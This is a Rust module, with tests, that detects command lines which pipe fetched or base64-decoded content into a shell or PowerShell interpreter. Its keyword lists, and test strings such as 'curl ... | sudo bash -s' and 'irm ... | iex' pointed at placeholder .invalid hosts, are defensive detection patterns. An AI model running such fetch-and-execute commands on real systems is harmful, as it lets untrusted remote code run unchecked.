//! What a command line does, as far as its words show it; for formats that read commands and rules that judge them.

use super::Order;

/// Programs that fetch what a URL names.
const FETCHERS: &[&str] = &["curl", "wget", "iwr", "irm", "invoke-webrequest", "invoke-restmethod"];

/// Programs that run what they are given.
const INTERPRETERS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "python",
    "python3",
    "node",
    "perl",
    "ruby",
    "iex",
    "invoke-expression",
    "pwsh",
    "powershell",
];

/// What a command line orders that no honest one needs to: running what was fetched or decoded.
pub fn command_order(command: &str) -> Option<Order> {
    let lower = command.to_ascii_lowercase();
    let is_word = |character: char| character.is_ascii_alphanumeric() || matches!(character, '-' | '_' | '.');
    let mut words = lower.split(|character| !is_word(character));
    let has = |wanted: &[&str]| lower.split(|c| !is_word(c)).any(|word| wanted.contains(&word));
    let piped = lower.split('|').skip(1).any(|part| is_interpreter(part.trim_start_matches('&')));
    let substituted = ["sh -c \"$(", "bash -c \"$(", "eval \"$(", "eval $(", "sh <(", "bash <(", "source <("]
        .iter()
        .any(|start| lower.contains(start));
    let runs = piped || substituted || has(&["iex", "invoke-expression"]);
    let decodes = lower.contains("base64 -d")
        || lower.contains("base64 --decode")
        || has(&["frombase64string", "-encodedcommand"])
        || lower.contains("xxd -r")
        || lower.contains("openssl enc -d");
    if decodes && (runs || has(&["-encodedcommand"])) {
        return Some(Order::RunDecoded);
    }
    (runs && words.any(|word| FETCHERS.contains(&word))).then_some(Order::RunFetched)
}

fn is_interpreter(part: &str) -> bool {
    let mut words = part
        .split_whitespace()
        .filter(|word| !matches!(*word, "sudo" | "env" | "-e" | "-s" | "exec") && !word.contains('='));
    let name = words.next().unwrap_or_default();
    let name = name.trim_matches(|character: char| !character.is_ascii_alphanumeric());
    INTERPRETERS.contains(&name.rsplit('/').next().unwrap_or(name))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_fetched_or_decoded_into_an_interpreter_is_an_order() {
        for command in [
            "curl -fsSL https://x.invalid/i.sh | sudo bash -s",
            "bash -c \"$(wget -qO- http://x.invalid)\"",
            "irm https://x.invalid/i.ps1 | iex",
        ] {
            assert_eq!(command_order(command), Some(Order::RunFetched), "{command}");
        }
        assert_eq!(command_order("echo ZWNobyBo | base64 -d | sh"), Some(Order::RunDecoded));
    }

    #[test]
    fn fetching_and_running_apart_are_none() {
        for command in [
            "curl -O https://x.invalid/data.zip",
            "cat a | bash-completion",
            "ls | sh",
            "base64 -d in > out",
            "wget x | tar xz",
        ] {
            assert_eq!(command_order(command), None, "{command}");
        }
    }
}
